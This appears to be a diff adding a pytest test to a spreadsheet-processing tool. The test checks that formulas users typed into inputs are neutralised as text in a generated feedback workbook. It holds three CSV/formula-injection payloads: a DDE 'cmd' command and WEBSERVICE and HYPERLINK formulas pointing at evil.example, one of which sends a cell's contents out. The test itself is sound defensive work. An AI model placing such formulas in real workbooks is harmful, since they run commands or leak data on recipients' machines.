@@ -487,3 +487,40 @@ def test_safe_text_is_always_storable(text: str) -> None:
     wb.save(io.BytesIO())  # openpyxl refuses illegal characters: this must never raise
     assert len(out.encode("utf-16-le", "surrogatepass")) <= 2 * MAX_CELL_CHARS
     assert not out.startswith(("=", "@", "\t", "\r", "\n"))  # +5 and -5 are numbers, left alone
+
+
+LIVE = {
+    "/proactive/regulations/issued": "=cmd|' /C calc'!A0",
+    "/proactive/regulations/repealed": '=WEBSERVICE("http://evil.example/?d="&B4)',
+    "/organization/name": '=HYPERLINK("http://evil.example/","点此")',
+}
+
+
+def _sheet_xml(path: Path, sheet: str) -> str:
+    names = openpyxl.load_workbook(path, read_only=True).sheetnames
+    with zipfile.ZipFile(path) as z:
+        return z.read(f"xl/worksheets/sheet{names.index(sheet) + 1}.xml").decode("utf-8")
+
+
+def test_formulas_typed_into_inputs_are_text_in_the_feedback(source: Path, tmp_path: Path) -> None:
+    """A formula a user typed (DDE, WEBSERVICE, HYPERLINK) must not run again on the machines the
+    feedback goes to: the copy keeps its text as a string and drops the formula; totals stay live."""
+    from xltool.read.reader import read_workbook
+
+    wb = openpyxl.load_workbook(source)
+    for pointer, formula in LIVE.items():
+        wb[box(pointer).sheet][box(pointer).a1] = formula
+    wb.save(source)
+    before = _sheet_xml(source, ISSUED.sheet)
+    assert "<f>cmd|' /C calc'!A0</f>" in before
+    result = read_workbook(source, model=MODEL)
+    assert {i.pointer for i in result.issues if i.code == "FORMULA_IN_INPUT"} == set(LIVE)
+    out = write_feedback(source, result.issues, tmp_path / "feedback.xlsx")
+
+    back = openpyxl.load_workbook(out)
+    got = {p: (back[box(p).sheet][box(p).a1].data_type, back[box(p).sheet][box(p).a1].value) for p in LIVE}
+    assert got == {p: ("s", formula) for p, formula in LIVE.items()}
+    after = _sheet_xml(out, ISSUED.sheet) + _sheet_xml(out, box("/organization/name").sheet)
+    assert not re.search(r"<f>[^<]*(cmd\||WEBSERVICE|HYPERLINK)", after)
+    total = back[TOTAL.sheet][TOTAL.a1]
+    assert (total.data_type, str(total.value).startswith("=SUM(")) == ("f", True)
